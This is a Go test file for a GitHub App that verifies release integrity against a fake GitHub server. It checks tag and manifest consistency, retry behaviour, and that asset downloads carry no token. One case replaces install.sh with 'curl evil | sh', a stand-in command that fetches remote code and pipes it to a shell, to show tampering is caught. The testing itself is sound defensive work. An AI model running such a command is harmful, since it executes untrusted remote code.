package gh_test

import (
	"context"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/aepgate/aepgate/checks"
	"github.com/aepgate/aepgate/internal/gh"
	"github.com/aepgate/aepgate/internal/testkit/ghfake"
	"github.com/aepgate/aepgate/protocol/releaserules"
)

// install installs an App on the fixture's repository and returns its
// clients and installation.
func (fx *releaseFixture) install(t *testing.T) (*gh.Clients, *gh.Installation) {
	t.Helper()
	key := ghfake.NewAppKey()
	inst := fx.f.App(41, key).Install("octo", ghfake.Permissions{"metadata": "read", "contents": "read", "checks": "write"}, fx.repo)
	clients := gh.NewClients(gh.NewAppAuth(41, key, fx.f.URL(), nil), fx.f.URL())
	clients.WritePause = 0
	in, err := clients.Installation(inst.ID)
	if err != nil {
		t.Fatal(err)
	}
	return clients, in
}

func (fx *releaseFixture) closure(t *testing.T) (gh.ReleaseClosure, error) {
	t.Helper()
	clients, in := fx.install(t)
	return in.VerifyReleaseClosure(context.Background(), gh.ReleaseOptions{
		Repo: "octo/demo", Tag: relTag, AssetNames: []string{"manifest.sha256", "install.sh"}, DownloadClient: clients.DownloadClient(),
	})
}

func TestVerifyReleaseClosure(t *testing.T) {
	changedManifest := func(fx *releaseFixture) {
		fx.repo.Commit("main", "later", map[string]string{"manifest.sha256": sum("x") + "  x\n", "x": "x"})
	}
	tests := []struct {
		name   string
		after  func(fx *releaseFixture)
		want   []string
		commit func(fx *releaseFixture) string
	}{
		{"closed", nil, []string{}, nil},
		{"tampered asset", func(fx *releaseFixture) { fx.rel.ReplaceAssetBytes("install.sh", []byte("curl evil | sh\n")) },
			[]string{"github-release-asset-hash-mismatch:install.sh"}, nil},
		{"main moved, same manifest", func(fx *releaseFixture) { fx.repo.Commit("main", "later", map[string]string{"x": "y"}) },
			[]string{releaserules.TokenTagNotMain}, nil},
		{"main moved, manifest changed there", changedManifest,
			[]string{releaserules.TokenCoverage, releaserules.TokenTagNotMain}, nil},
		{"main moved, manifest gone there", func(fx *releaseFixture) {
			fx.repo.Commit("main", "drop", map[string]string{"manifest.sha256": ghfake.Deleted})
		}, []string{releaserules.TokenLocalManifest, releaserules.TokenTagNotMain}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fx := newReleaseFixture(t, nil)
			if tt.after != nil {
				tt.after(fx)
			}
			fx.f.ResetLog()
			got, err := fx.closure(t)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, got.Result.Errors); diff != "" {
				t.Errorf("errors (-want +got):\n%s\nnotes: %v", diff, got.Result.Notes)
			}
			if got.Commit != fx.commit {
				t.Errorf("commit %q, want the tagged commit %q", got.Commit, fx.commit)
			}
			if w := repoWrites(fx.f); len(w) != 0 {
				t.Errorf("verification wrote to GitHub: %v", w)
			}
		})
	}
}

// TestVerifyReleaseClosureStandIn: the App's local manifest is the default
// branch's, and the refusal says so rather than "in the working directory".
func TestVerifyReleaseClosureStandIn(t *testing.T) {
	fx := newReleaseFixture(t, nil)
	fx.repo.Commit("main", "drop", map[string]string{"manifest.sha256": ghfake.Deleted})
	got, err := fx.closure(t)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range got.Result.Refusals {
		if r.Token == releaserules.TokenLocalManifest && !strings.Contains(r.Expected, "on the default branch head") {
			t.Errorf("expected %q", r.Expected)
		}
	}
}

func TestVerifyReleaseClosureLightweightTag(t *testing.T) {
	f := ghfake.New(t)
	fx := &releaseFixture{f: f, repo: f.CreateRepo("octo/demo")}
	fx.commit = fx.repo.Commit("main", "c", map[string]string{"manifest.sha256": sum("a") + "  a\n", "a": "a"})
	fx.repo.LightweightTag(relTag, "main")
	fx.repo.PublishRelease(relTag, ghfake.ReleaseOptions{})
	got, err := fx.closure(t)
	if err != nil {
		t.Fatal(err)
	}
	if got.Commit != fx.commit || got.Result.Closed {
		t.Errorf("commit %q closed %v, want %q and not closed", got.Commit, got.Result.Closed, fx.commit)
	}
	if !strings.Contains(strings.Join(got.Result.Errors, " "), releaserules.TokenTagUnreadable) {
		t.Errorf("errors %v", got.Result.Errors)
	}
}

// TestVerifyReleaseClosureTransient: a server error or a rate limit is an
// error to retry on, never a refusal posted as the verdict.
func TestVerifyReleaseClosureTransient(t *testing.T) {
	tests := []struct {
		name    string
		fault   ghfake.Fault
		limited bool
	}{
		{"server error", ghfake.Fault{Kind: ghfake.FaultStatus, Status: 502}, false},
		{"secondary rate limit", ghfake.Fault{Kind: ghfake.FaultSecondary, RetryAfter: 7}, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fx := newReleaseFixture(t, nil)
			fx.f.InjectFault("GET /repos/{owner}/{repo}/releases/latest", tt.fault)
			_, err := fx.closure(t)
			if err == nil {
				t.Fatal("no error")
			}
			if _, limited := gh.RetryWait(err, time.Now()); limited != tt.limited {
				t.Errorf("rate limited %v, want %v: %v", limited, tt.limited, err)
			}
		})
	}
}

func TestVerifyReleaseClosureBadTagAsksNothing(t *testing.T) {
	fx := newReleaseFixture(t, nil)
	clients, in := fx.install(t)
	fx.f.ResetLog()
	got, err := in.VerifyReleaseClosure(context.Background(), gh.ReleaseOptions{Repo: "octo/demo", Tag: "v1.2.3-rc1", DownloadClient: clients.DownloadClient()})
	if err != nil || got.Commit != "" || fx.f.Stats().Total != 0 {
		t.Errorf("commit %q, err %v, %d requests; want none", got.Commit, err, fx.f.Stats().Total)
	}
	if diff := cmp.Diff([]string{releaserules.TokenVersionInvalid}, got.Result.Errors); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestAppCheckRuns(t *testing.T) {
	fx := newReleaseFixture(t, nil)
	_, in := fx.install(t)
	ctx := context.Background()
	runs, err := in.AppCheckRuns(ctx, "octo", "demo", fx.commit, "aepgate/release")
	if err != nil || len(runs) != 0 {
		t.Fatalf("runs %v, err %v; want none", runs, err)
	}
	run := releaseRun(fx.commit)
	if _, err := in.CheckPublisher().Publish(ctx, "octo", "demo", run); err != nil {
		t.Fatal(err)
	}
	runs, err = in.AppCheckRuns(ctx, "octo", "demo", fx.commit, "aepgate/release")
	if err != nil || len(runs) != 1 || runs[0].ExternalID != run.ExternalID || runs[0].Conclusion != "success" {
		t.Fatalf("runs %+v, err %v", runs, err)
	}
}

func releaseRun(sha string) checks.Run {
	tag := relTag
	return checks.AppReleaseRun(sha, releaserules.Result{Closed: true, Tag: tag, Repository: "octo/demo", TagSha: &sha, RemoteMainSha: &sha}, checks.ReleaseInputs{Manifest: "manifest.sha256"})
}

// repoWrites are the writes to repositories (minting the installation's
// token is not one).
func repoWrites(f *ghfake.Fake) []ghfake.Request {
	var out []ghfake.Request
	for _, w := range f.Writes() {
		if strings.HasPrefix(w.Path, "/repos/") {
			out = append(out, w)
		}
	}
	return out
}

// TestReleaseDownloadsCarryNoToken: GitHub redirects asset downloads to
// storage, which must never see the installation's token. The negative
// control hands the verification a download client that carries a token,
// and the storage requests show it.
func TestReleaseDownloadsCarryNoToken(t *testing.T) {
	tests := []struct {
		name      string
		tokenSent bool
	}{
		{"the App's download client", false},
		{"control: a client carrying a token", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fx := newReleaseFixture(t, nil)
			rec := &authRecorder{}
			key := ghfake.NewAppKey()
			inst := fx.f.App(42, key).Install("octo", ghfake.Permissions{"metadata": "read", "contents": "read"}, fx.repo)
			clients := gh.NewClients(gh.NewAppAuth(42, key, fx.f.URL(), rec), fx.f.URL())
			in, err := clients.Installation(inst.ID)
			if err != nil {
				t.Fatal(err)
			}
			dl := clients.DownloadClient()
			if tt.tokenSent {
				c, err := gh.NewTokenClient(fx.f.URL(), fx.f.UserToken("octo"), &http.Client{Transport: rec})
				if err != nil {
					t.Fatal(err)
				}
				dl = c.Client()
			}
			got, err := in.VerifyReleaseClosure(context.Background(), gh.ReleaseOptions{Repo: "octo/demo", Tag: relTag,
				AssetNames: []string{"manifest.sha256", "install.sh"}, DownloadClient: dl})
			if err != nil || !got.Result.Closed {
				t.Fatalf("closed %v, err %v, errors %v", got.Result.Closed, err, got.Result.Errors)
			}
			if rec.downloads != 2 || (rec.withToken > 0) != tt.tokenSent {
				t.Errorf("%d downloads, %d with a token; want 2, token sent %v", rec.downloads, rec.withToken, tt.tokenSent)
			}
		})
	}
}

// authRecorder counts the storage downloads it carries, and those that
// carried an Authorization header.
type authRecorder struct {
	mu                   sync.Mutex
	downloads, withToken int
}

func (a *authRecorder) RoundTrip(req *http.Request) (*http.Response, error) {
	if strings.HasPrefix(req.URL.Path, "/_ghfake/download/") {
		a.mu.Lock()
		a.downloads++
		if req.Header.Get("Authorization") != "" {
			a.withToken++
		}
		a.mu.Unlock()
	}
	return http.DefaultTransport.RoundTrip(req)
}
